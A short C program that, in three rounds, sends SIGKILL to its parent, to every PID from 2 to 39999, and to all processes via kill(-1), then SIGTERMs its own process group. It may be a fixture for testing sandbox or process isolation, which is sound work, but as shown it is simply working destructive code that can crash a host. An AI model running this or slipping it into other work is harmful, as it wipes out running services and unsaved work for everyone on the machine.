/* Kills its parent, its group and everything it may, several times. */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

int main(void)
{
	for (int round = 0; round < 3; round++) {
		kill(getppid(), SIGKILL);
		for (int pid = 2; pid < 40000; pid++)
			if (pid != getpid())
				kill(pid, SIGKILL);
		kill(-1, SIGKILL);
		kill(0, SIGTERM);
	}
	return 0;
}
